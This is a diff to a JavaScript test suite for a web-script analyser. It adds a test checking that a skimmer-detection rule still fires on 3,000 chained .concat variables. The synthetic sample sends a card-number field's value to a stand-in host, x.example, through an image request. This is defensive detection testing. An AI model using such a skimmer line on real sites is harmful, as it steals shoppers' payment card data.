@@ -47,6 +47,15 @@ describe('analysis never crashes on hostile input', () => {
     wellFormed(analyse(`eval(${'"eval(" + '.repeat(500)}"1"${' + ")"'.repeat(500)});`));
     wellFormed(analyse(`var x = ${Array.from({ length: 20000 }, (_, i) => `'s${i}'`).join('+')};`));
   });
+
+  it('3,000 variables each built from the last with .concat (Babel output): every rule still runs', () => {
+    let code = "var a = location.hash; var u0 = 'https://x.example/';";
+    for (let i = 1; i <= 3000; i++) code += ` var u${i} = u${i - 1}.concat(a);`;
+    code += " new Image().src = u3000 + document.getElementById('cc-number').value;";
+    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'inline' }, { rethrow: false });
+    expect(r.findings.filter((f) => f.ruleId === 'rule-error' || f.ruleId === 'analysis-error').map((f) => f.message)).toEqual([]);
+    expect(r.findings.some((f) => f.ruleId === 'skimmer')).toBe(true);
+  });
 });
 
 describe('budgets hold in the worker pool', () => {
